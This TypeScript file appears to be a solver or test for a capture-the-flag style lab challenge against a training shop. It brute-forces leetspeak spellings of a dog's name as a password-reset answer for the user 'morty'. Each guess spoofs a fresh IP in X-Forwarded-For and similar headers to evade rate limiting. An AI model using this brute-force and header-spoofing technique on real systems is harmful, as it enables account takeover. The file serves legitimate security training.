import type { Attack, Tools } from '#lab'

/** Spellings of the dog's two names, whose owner likes digits. */
const SNUFFLES = ['5S', 'nN', 'uU', 'fF', 'fF', '1lL', '3', '5S']
const SNOWBALL = ['5S', 'nN', '0', 'wW', 'bB', '4', '1lL', '1lL']

/** All words with one of these characters at each position. */
function spellings(places: readonly string[]): string[] {
  return places.reduce<string[]>(
    (words, signs) => words.flatMap((word) => Array.from(signs, (sign) => word + sign)),
    [''],
  )
}

/** Tries all spellings, each from another address by these headers. */
async function guess({ http, expect, settings }: Tools, headersFor: (ip: string) => Record<string, string>) {
  const email = `morty@${settings.domain}`
  const password = 'iBurri3dMySe1f!'
  const answers = [...spellings(SNUFFLES), ...spellings(SNOWBALL)]
  for (const [index, answer] of answers.entries()) {
    const headers = headersFor(`10.0.${index >> 8}.${index & 255}`)
    const body = { email, answer, new: password, repeat: password }
    const { status } = await http.post('/rest/user/reset-password', body, { headers })
    expect(status !== 429, `after ${index} guesses the shop had enough`)
    if (status === 200) return
  }
  expect(false, 'none of them is it')
}

/** Headers that servers often trust. */
const NAMES = ['x-forwarded-for', 'x-real-ip', 'x-client-ip', 'true-client-ip', 'cf-connecting-ip']

const challenge = 'resetPasswordMortyChallenge'

export const attacks: Attack[] = [
  {
    challenge,
    name: 'all spellings of a dog, each with another X-Forwarded-For',
    run: (tools) => guess(tools, (ip) => ({ 'x-forwarded-for': ip })),
  },
  {
    challenge,
    name: 'the guesses with every header that could name the client',
    run: (tools) => guess(tools, (ip) => Object.fromEntries(NAMES.map((name) => [name, ip]))),
  },
]
